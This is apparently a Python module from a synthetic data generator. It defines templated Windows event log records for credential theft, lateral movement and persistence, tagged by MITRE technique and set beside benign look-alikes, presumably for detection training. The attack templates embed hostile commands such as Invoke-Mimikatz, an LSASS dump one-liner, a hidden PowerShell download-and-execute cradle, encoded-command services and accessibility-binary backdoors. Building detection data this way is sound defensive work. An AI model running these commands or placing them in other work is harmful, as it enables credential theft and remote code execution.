"""Event log files of machines under attack beside those of machines at work, tactic by tactic."""

from generator.families.network.product_story import catalogue_in_parts
from generator.families.windows.log_file_forms import FORMS

catalogue_in_parts("windows/log-files-credentials", FORMS, r"""
CT@T1003.001 Sysmon 10 | SourceImage=<<C:\Users\{user}\Desktop\{word}.exe|C:\Windows\System32\rundll32.exe|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|C:\Temp\{word}.exe>> ; TargetImage=C:\Windows\system32\lsass.exe ; GrantedAccess=<<0x1010|0x1fffff|0x1410|0x143a>> ; CallTrace=C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|<<UNKNOWN({hex})|C:\Windows\System32\dbgcore.dll+6d3c>>
CT@T1003.001 Sec 4656 | ObjectServer=Security ; ObjectType=Process ; ObjectName=\Device\HarddiskVolume2\Windows\System32\lsass.exe ; AccessMask=<<0x1010|0x1410|0x1438>> ; ProcessName=C:\Users\{user}\<<Downloads|Desktop>>\{word}.exe
CT@T1003.001 Sysmon 11 | Image=<<C:\Windows\System32\rundll32.exe|C:\Windows\system32\taskmgr.exe|C:\Users\{user}\{word}.exe>> ; TargetFilename=C:\<<Users\{user}\AppData\Local\Temp|Windows\Temp|Temp>>\<<lsass|{word}|debug>>.<<dmp|DMP>>
CT@T1003.002 Sec 4663 | ObjectServer=Security ; ObjectType=Key ; ObjectName=\REGISTRY\MACHINE\<<SAM\SAM\Domains\Account\Users|SECURITY\Policy\Secrets|SYSTEM\CurrentControlSet\Control\Lsa\JD>> ; AccessMask=0x1 ; ProcessName=C:\<<Windows\System32\reg.exe|Users\{user}\{word}.exe>>
KD@T1558.003 Sec 4769 | TargetUserName={user}@{domain} ; ServiceName=<<svc_sql|svc_web|{word}>> ; TicketOptions=0x40810000 ; TicketEncryptionType=0x17 ; IpAddress=::ffff:{lan} ; Status=0x0
KD@T1558.004 Sec 4768 | TargetUserName=<<svc_{word}|{user}>> ; ServiceName=krbtgt ; TicketOptions=0x40800010 ; TicketEncryptionType=0x17 ; PreAuthType=0 ; IpAddress=::ffff:{lan} ; Status=0x0
KD@T1003.006 Sec 4662 | ObjectServer=DS ; ObjectType={19195a5b-6da0-11d0-afd3-00c04fd930c9} ; AccessMask=0x100 ; Properties=%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}
PS# Sec 4771 | TargetUserName={guest} ; ServiceName=krbtgt/{company} ; Status=0x18 ; PreAuthType=2 ; IpAddress=::ffff:{lan}
PS# Sec 4776 | TargetUserName={guest} ; PackageName=MICROSOFT_AUTHENTICATION_PACKAGE_V1_0 ; Workstation={word9} ; Status=0xc000006a
BF# Sec 4625 | TargetUserName={adm} ; TargetDomainName={company} ; Status=0xc000006d ; SubStatus=0xc000006a ; LogonType=<<3|10>> ; LogonProcessName=NtLmSsp ; IpAddress={wan} ; IpPort={port}
CT@T1555.003 Sec 4663 | ObjectServer=Security ; ObjectType=File ; ObjectName=C:\Users\{user}\AppData\<<Local\Google\Chrome\User Data\Default\Login Data|Roaming\Mozilla\Firefox\Profiles\{hex}.default\logins.json>> ; AccessMask=0x1 ; ProcessName=C:\Users\{user}\AppData\Local\Temp\{word}.exe
CT@T1003.001 PS 4104 | MessageNumber=1 ; MessageTotal=1 ; ScriptBlockText=<<Invoke-Mimikatz -DumpCreds|$p=Get-Process lsass; [Win32.NativeMethods]::MiniDumpWriteDump($p.Handle,$p.Id,$f,2)|Get-ChildItem C:\Users -Recurse -Include *.kdbx,*.rdg,unattend.xml>> ; Path=
KD@T1649 Sec 4887 | RequestId={n} ; Requester={company}\{user} ; Attributes=CertificateTemplate:<<User|ESC1|WebServer>> SAN:upn=administrator@{domain} ; Disposition=3
CT@T1187 Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\IPC$ ; RelativeTargetName=efsrpc ; AccessMask=0x3
""", r"""
SY Sysmon 10 | SourceImage=<<C:\Windows\system32\svchost.exe|C:\Windows\system32\wbem\wmiprvse.exe|C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe|C:\Windows\system32\csrss.exe|C:\Program Files\VMware\VMware Tools\vmtoolsd.exe>> ; TargetImage=C:\Windows\system32\lsass.exe ; GrantedAccess=<<0x1000|0x1400|0x1410|0x1fffff|0x101000>> ; CallTrace=C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\system32\lsm.dll+10e93
SY Sec 4656 | ObjectServer=Security ; ObjectType=<<Process|Key|File>> ; ObjectName=<<\Device\HarddiskVolume2\Windows\System32\lsass.exe|\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows|C:\Windows\System32\drivers\etc\hosts>> ; AccessMask=<<0x1000|0x1|0x1400>> ; ProcessName=<<C:\Windows\System32\svchost.exe|C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe|C:\Windows\System32\VSSVC.exe>>
SY Sysmon 11 | Image=<<C:\Windows\System32\WerFault.exe|C:\Windows\system32\taskmgr.exe>> ; TargetFilename=C:\<<ProgramData\Microsoft\Windows\WER\Temp\WER{hex}.tmp.dmp|Users\{user}\AppData\Local\CrashDumps\outlook.exe.{n}.dmp>>
SY Sec 4663 | ObjectServer=Security ; ObjectType=<<Key|File>> ; ObjectName=<<\REGISTRY\MACHINE\SAM\SAM\Domains\Account|C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Login Data|C:\Shares\{share}\plan.xlsx>> ; AccessMask=0x1 ; ProcessName=<<C:\Windows\System32\lsass.exe|C:\Program Files\Google\Chrome\Application\chrome.exe|C:\Windows\explorer.exe>>
LO Sec 4769 | TargetUserName=<<{user}@{domain}|{pc}$@{domain}>> ; ServiceName=<<{pc}$|krbtgt|svc_sql|{host}$>> ; TicketOptions=<<0x40810000|0x60810010>> ; TicketEncryptionType=<<0x12|0x12|0x11|0x17>> ; IpAddress=::ffff:{lan} ; Status=0x0
LO Sec 4768 | TargetUserName=<<{user}|{pc}$>> ; ServiceName=krbtgt ; TicketOptions=0x40810010 ; TicketEncryptionType=0x12 ; PreAuthType=2 ; IpAddress=::ffff:{lan} ; Status=0x0
SY Sec 4662 | ObjectServer=DS ; SubjectUserName={host}$ ; ObjectType=%{19195a5b-6da0-11d0-afd3-00c04fd930c9} ; AccessMask=0x100 ; Properties=%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}
MP. Sec 4771 | TargetUserName={user} ; ServiceName=krbtgt/{company} ; Status=<<0x18|0x17>> ; PreAuthType=2 ; IpAddress=::ffff:{lan}
MP. Sec 4776 | TargetUserName={user} ; PackageName=MICROSOFT_AUTHENTICATION_PACKAGE_V1_0 ; Workstation={pc} ; Status=<<0xc000006a|0xc0000071>>
LO Sec 4776 | TargetUserName={user} ; PackageName=MICROSOFT_AUTHENTICATION_PACKAGE_V1_0 ; Workstation={pc} ; Status=0x0
MP. Sec 4625 | TargetUserName={user} ; TargetDomainName={company} ; Status=0xc000006d ; SubStatus=0xc000006a ; LogonType=<<2|3|7|10>> ; LogonProcessName=<<User32|NtLmSsp>> ; IpAddress={lan} ; IpPort={port}
AD Sec 4887 | RequestId={n} ; Requester={company}\{pc}$ ; Attributes=CertificateTemplate:<<Machine|Workstation|User>> cdc:{host} ; Disposition=3
SY PS 4104 | MessageNumber=1 ; MessageTotal=1 ; ScriptBlockText=<<Get-Process ¦ Sort-Object WS ¦ Select-Object -First 10|Get-Credential -Message 'Domain account' ¦ Export-Clixml C:\Scripts\cred.xml|Get-ADUser -Filter * -Properties PasswordLastSet>> ; Path=C:\Scripts\report.ps1
""")

catalogue_in_parts("windows/log-files-movement", FORMS, r"""
LM@T1021.002,T1569.002 Sys 7045 | ServiceName=<<PSEXESVC|{word}|BTOBTO>> ; ImagePath=<<%SystemRoot%\PSEXESVC.exe|%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1|\\127.0.0.1\ADMIN$\{word}.exe|C:\Windows\{word}.exe>> ; ServiceType=user mode service ; StartType=demand start ; AccountName=LocalSystem
LM@T1021.002 Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\<<ADMIN$|C$>> ; ShareLocalPath=\??\C:\Windows ; RelativeTargetName=<<PSEXESVC.exe|{word}.exe|Temp\{word}.tmp|__{seconds}.{n}>> ; AccessMask=0x2
LM@T1053.005 Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\IPC$ ; RelativeTargetName=<<atsvc|svcctl|winreg>> ; AccessMask=0x3
LM-@T1550.002 Sec 4624 | TargetUserName={adm} ; TargetDomainName={company} ; LogonType=9 ; LogonProcessName=seclogo ; AuthenticationPackageName=Negotiate ; IpAddress=::1 ; ProcessName=C:\Windows\System32\svchost.exe
LM~@T1550.002 Sec 4624 | TargetUserName={adm} ; TargetDomainName={company} ; LogonType=3 ; LogonProcessName=NtLmSsp ; AuthenticationPackageName=NTLM ; LmPackageName=NTLM V2 ; KeyLength=0 ; WorkstationName={word} ; IpAddress={lan} ; IpPort={port}
~ Sec 4672 | PrivilegeList=SeDebugPrivilege SeTcbPrivilege SeBackupPrivilege SeImpersonatePrivilege
+ Sys 7045 | ServiceName={word} ; ImagePath=%COMSPEC% /C powershell -nop -w hidden -enc {long} ; ServiceType=user mode service ; StartType=demand start ; AccountName=LocalSystem
LM@T1021.003 Sysmon 1 | CommandLine=cmd.exe /Q /c <<whoami|cd \|quser>> 1> \\127.0.0.1\ADMIN$\__{seconds}.{n} 2>&1 ; ParentImage=<<C:\Windows\System32\mmc.exe|C:\Windows\System32\wbem\WmiPrvSE.exe>> ; ParentCommandLine=C:\Windows\system32\mmc.exe -Embedding ; User={company}\{adm}
LM@T1047 Sysmon 1 | CommandLine=powershell -nop -w hidden -c IEX((New-Object Net.WebClient).DownloadString('http://{lan}/{word}')) ; ParentImage=C:\Windows\System32\wbem\WmiPrvSE.exe ; User={company}\{adm}
LM@T1021.006 Sysmon 1 | CommandLine="C:\Windows\system32\cmd.exe" /C <<whoami /all|net group "domain admins" /domain|C:\Users\Public\{word}.exe>> ; ParentImage=C:\Windows\System32\<<winrshost.exe|wsmprovhost.exe>> ; User={company}\{adm}
LM@T1021.001 RDP 1149 | Param1={adm} ; Param2={company} ; Param3={wan}
LM@T1021.002 Sysmon 18 | EventType=ConnectPipe ; PipeName=\<<PSEXESVC|{word}-stdin|RemCom_communicaton|msagent_{n}>> ; Image=System ; User=NT AUTHORITY\SYSTEM
LM@T1570 Sysmon 11 | Image=System ; TargetFilename=C:\<<Windows\{word}.exe|Windows\PSEXESVC.exe|ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\{word}.bat>> ; User=NT AUTHORITY\SYSTEM
LM@T1563.002 Sysmon 1 | CommandLine=tscon {few} /dest:rdp-tcp#{n} ; ParentImage=C:\Windows\System32\cmd.exe ; User=NT AUTHORITY\SYSTEM
LM Sec 4648 | TargetUserName={adm} ; TargetDomainName={company} ; TargetServerName={host} ; TargetInfo={host} ; ProcessName=C:\Users\{user}\<<Downloads|AppData\Local\Temp>>\{word}.exe ; IpAddress=-
""", r"""
AD Sys 7045 | ServiceName=<<Google Update Service|Veeam Agent|VMware Tools|{word} Printer Service|Npcap Packet Driver>> ; ImagePath=<<"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc|"C:\Program Files\Veeam\Agent\svc.exe"|\SystemRoot\system32\DRIVERS\{word}.sys|C:\Windows\System32\spool\drivers\x64\3\{word}.exe>> ; ServiceType=<<user mode service|kernel mode driver>> ; StartType=<<auto start|demand start>> ; AccountName=LocalSystem
NT Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\<<SYSVOL|{share}|NETLOGON|print$>> ; ShareLocalPath=\??\D:\Shares ; RelativeTargetName=<<{domain}\Policies\gpt.ini|plan.xlsx|logon.bat|x64\3\{word}.dll>> ; AccessMask=<<0x1|0x2|0x120089>>
NS Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\IPC$ ; RelativeTargetName=<<srvsvc|lsarpc|netlogon|spoolss|wkssvc|svcctl>> ; AccessMask=0x3
BA Sec 5145 | ObjectType=File ; IpAddress={lan} ; IpPort={port} ; ShareName=\\*\<<ADMIN$|C$>> ; ShareLocalPath=\??\C:\ ; RelativeTargetName=<<Windows\Temp\VeeamBackup|Program Files\Veeam|ccmsetup\ccmsetup.exe|Windows\PDQDeployRunner>> ; AccessMask=<<0x1|0x2>>
LO Sec 4624 | TargetUserName=<<{user}|{pc}$>> ; TargetDomainName={company} ; LogonType=<<2|3|7|10|11>> ; LogonProcessName=<<User32|Kerberos|NtLmSsp>> ; AuthenticationPackageName=<<Negotiate|Kerberos|NTLM>> ; KeyLength=0 ; WorkstationName={pc} ; IpAddress={lan} ; IpPort={port}
LO Sec 4624 | TargetUserName={adm} ; TargetDomainName={company} ; LogonType=<<4|5>> ; LogonProcessName=Advapi ; AuthenticationPackageName=Negotiate ; IpAddress=::1 ; ProcessName=C:\Windows\System32\<<svchost.exe|services.exe>>
AD Sysmon 1 | CommandLine=<<powershell.exe -File C:\ProgramData\Inventory\collect.ps1|cmd.exe /c ipconfig /all|powershell.exe Get-HotFix>> ; ParentImage=<<C:\Windows\System32\wbem\WmiPrvSE.exe|C:\Windows\System32\wsmprovhost.exe|C:\Program Files\Ansible\agent.exe>> ; User=<<NT AUTHORITY\SYSTEM|{company}\{adm}>>
LO RDP 1149 | Param1={user} ; Param2={company} ; Param3={lan}
LO TS <<21|22|23|24|25|40>> | User={company}\{user} ; SessionID={few} ; Address=<<{lan}|LOCAL>>
NS Sysmon 18 | EventType=ConnectPipe ; PipeName=\<<lsass|srvsvc|spoolss|winreg|svcctl|wkssvc>> ; Image=<<System|C:\Windows\System32\svchost.exe>> ; User=NT AUTHORITY\SYSTEM
UP Sysmon 11 | Image=<<System|C:\Windows\System32\msiexec.exe|C:\Windows\System32\svchost.exe>> ; TargetFilename=C:\<<Windows\SoftwareDistribution\Download\{hex}\update.cab|Windows\Installer\{hex}.msi|Windows\ccmcache\{n}\setup.exe>> ; User=NT AUTHORITY\SYSTEM
LO Sec 4672 | PrivilegeList=SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege SeTakeOwnershipPrivilege SeDebugPrivilege
LO Sec 4648 | TargetUserName=<<{adm}|{service}>> ; TargetDomainName={company} ; TargetServerName=<<localhost|{host}>> ; TargetInfo={host} ; ProcessName=C:\Windows\System32\<<svchost.exe|lsass.exe|taskhostw.exe|mmc.exe>> ; IpAddress=<<-|::1>>
""")

catalogue_in_parts("windows/log-files-staying", FORMS, r"""
PT@T1053.005 Sec 4698 | TaskName=\<<{word}|Microsoft\Windows\{word}>> ; TaskContent=<Task><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command><<C:\Users\Public\{word}.exe|powershell.exe|mshta.exe>></Command><Arguments><<-w hidden -enc {long}|http://{dga}/{word}.hta>></Arguments></Exec></Actions></Task>
PT@T1053.005 Task 106 | TaskName=\{word} ; UserContext={company}\{user}
+ Task 200 | TaskName=\{word} ; ActionName=C:\<<Users\Public|ProgramData|Windows\Temp>>\{word}.exe ; TaskInstanceId={uuid}
PT@T1547.001 Sysmon 13 | EventType=SetValue ; Image=C:\<<Windows\System32\reg.exe|Users\{user}\AppData\Local\Temp\{word}.exe>> ; TargetObject=HKU\S-1-5-21-{id}\Software\Microsoft\Windows\CurrentVersion\Run\{word} ; Details=<<C:\Users\{user}\AppData\Roaming\{word}.exe|powershell -w hidden -c iex(gp HKCU:\{word}).x>>
PT@T1546.003 WMI 5861 | Namespace=//./root/subscription ; ESS={word} ; CONSUMER=<<CommandLineEventConsumer|ActiveScriptEventConsumer>>={word} ; PossibleCause=Binding EventFilter: Query = SELECT * FROM __InstanceModificationEvent WITHIN 60; CommandLineTemplate = "powershell -enc {long}"
PT@T1543.003 Sys 7045 | ServiceName={word} ; ImagePath=<<C:\Users\{user}\AppData\Local\Temp\{word}.exe|cmd.exe /c start C:\ProgramData\{word}.bat|C:\Windows\System32\rundll32.exe C:\ProgramData\{word}.dll,Start>> ; ServiceType=user mode service ; StartType=auto start ; AccountName=LocalSystem
PT@T1136.001 Sec 4720 | TargetUserName=<<{word}|support$|admin$>> ; TargetDomainName={pc} ; SubjectUserName=<<{pc}$|iisuser>> ; SamAccountName={word} ; UserAccountControl=%%2080 %%2082 %%2084
+ Sec 4732 | TargetUserName=Administrators ; TargetDomainName=Builtin ; MemberName=CN={word} ; SubjectUserName=<<{pc}$|iisuser>>
PT@T1098 Sec 4728 | TargetUserName=Domain Admins ; TargetDomainName={company} ; MemberName=CN={word},CN=Users,DC={company} ; SubjectUserName={word}
PT@T1098 Sec 4738 | TargetUserName={adm} ; TargetDomainName={company} ; SubjectUserName={word} ; UserAccountControl=%%2096 ; AllowedToDelegateTo=<<cifs/{host}.{domain}|->> ; SidHistory=<<S-1-5-21-{id}-500|->>
PT@T1098 Sec 5136 | ObjectDN=CN=AdminSDHolder,CN=System,DC={company} ; ObjectClass=container ; AttributeLDAPDisplayName=nTSecurityDescriptor ; AttributeValue=(A;;GA;;;S-1-5-21-{id}-{many}) ; OperationType=%%14674 ; SubjectUserName={word}
PT@T1546.012 Sysmon 13 | EventType=SetValue ; Image=C:\Windows\System32\reg.exe ; TargetObject=HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\<<Image File Execution Options\sethc.exe\Debugger|Winlogon\Userinit|Windows\AppInit_DLLs>> ; Details=C:\<<Windows\System32\cmd.exe|ProgramData\{word}.dll>>
PT@T1197 BITS 59 | transferId={uuid} ; name={word} ; Id={uuid} ; url=http://{wan}/{word}.exe ; bytesTotal={big}
""", r"""
AD Sec 4698 | TaskName=\<<GoogleUpdateTaskMachineUA|Adobe Acrobat Update Task|Microsoft\Office\Office Automatic Updates|{word} Backup>> ; TaskContent=<Task><Triggers><CalendarTrigger/></Triggers><Actions><Exec><Command><<C:\Program Files (x86)\Google\Update\GoogleUpdate.exe|C:\Program Files\Common Files\Adobe\ARM.exe|powershell.exe>></Command><Arguments><</ua|-File C:\Scripts\backup.ps1>></Arguments></Exec></Actions></Task>
SJ Task <<100|102|106|107|129|140|200|201>> | TaskName=\<<Microsoft\Windows\UpdateOrchestrator\Schedule Scan|GoogleUpdateTaskMachineCore|Microsoft\Windows\Defrag\ScheduledDefrag|{word} Backup>> ; ActionName=C:\<<Windows\system32\usoclient.exe|Program Files (x86)\Google\Update\GoogleUpdate.exe|Windows\system32\defrag.exe>> ; TaskInstanceId={uuid} ; ResultCode=0
AE Sysmon 13 | EventType=SetValue ; Image=C:\<<Windows\explorer.exe|Program Files\Microsoft OneDrive\OneDrive.exe|Windows\System32\msiexec.exe|Windows\System32\reg.exe>> ; TargetObject=HKU\S-1-5-21-{id}\Software\Microsoft\Windows\CurrentVersion\Run\<<OneDrive|Teams|Spotify|{word}>> ; Details="C:\<<Program Files\Microsoft OneDrive\OneDrive.exe|Users\{user}\AppData\Local\Microsoft\Teams\Update.exe|Program Files\{word}\{word}.exe>>" /background
SY WMI <<5857|5858|5860>> | ProviderName=<<CIMWin32|WmiPerfClass|Win32_WIN32_TERMINALSERVICE_Prov>> ; Operation=Start IWbemServices::ExecQuery - root\cimv2 : SELECT * FROM <<Win32_Processor|Win32_LogicalDisk|AntiVirusProduct>> ; User=<<NT AUTHORITY\SYSTEM|{company}\{user}>> ; ResultCode=<<0x0|0x80041032|0x80041010>>
SY WMI 5861 | Namespace=//./root/subscription ; ESS=SCM Event Log Filter ; CONSUMER=NTEventLogEventConsumer=SCM Event Log Consumer ; PossibleCause=Binding EventFilter: Query = select * from MSFT_SCMEventLogEvent
AD Sec 4720 | TargetUserName={user} ; TargetDomainName=<<{company}|{pc}>> ; SubjectUserName={adm} ; SamAccountName={user} ; UserAccountControl=%%2080 %%2082 %%2084
AD Sec <<4728|4732|4756>> | TargetUserName=<<VPN-Users|Remote Desktop Users|Finance|Print Operators|Administrators>> ; TargetDomainName=<<{company}|Builtin>> ; MemberName=CN={user},OU=Staff,DC={company} ; SubjectUserName={adm}
AD Sec <<4738|4742|4724|4725|4722|4767>> | TargetUserName=<<{user}|{pc}$>> ; TargetDomainName={company} ; SubjectUserName={adm} ; UserAccountControl=<<-|%%2048|%%2089>> ; AllowedToDelegateTo=- ; SidHistory=-
SY Sec 5136 | ObjectDN=<<CN={user},OU=Staff,DC={company}|CN=Policies,CN=System,DC={company}|CN={pc},OU=PCs,DC={company}>> ; ObjectClass=<<user|groupPolicyContainer|computer>> ; AttributeLDAPDisplayName=<<telephoneNumber|versionNumber|description|servicePrincipalName|ms-Mcs-AdmPwdExpirationTime>> ; AttributeValue={n} ; OperationType=%%14674 ; SubjectUserName={adm}
UP BITS <<3|4|59|60|61>> | transferId={uuid} ; name=<<Chrome Component Updater|WU Client Download|PreSignInSettingsConfigJSON|MicrosoftMapsBingGeoStore>> ; Id={uuid} ; url=https://{site}/filestreamingservice/files/{uuid} ; bytesTotal={big}
SY Sys <<7036|7040|7045>> | param1=<<Windows Update|Background Intelligent Transfer Service|Print Spooler|Software Protection>> ; param2=<<running|stopped|auto start>> ; param3=demand start ; param4=BITS
AE Sysmon 13 | EventType=SetValue ; Image=C:\Windows\System32\<<svchost.exe|msiexec.exe|services.exe>> ; TargetObject=HKLM\<<System\CurrentControlSet\Services\{word}\ImagePath|SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\{word}.exe\MitigationOptions|SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\LastUsedUsername>> ; Details=<<C:\Program Files\{word}\{word}.exe|DWORD (0x00000100)|{user}>>
""")
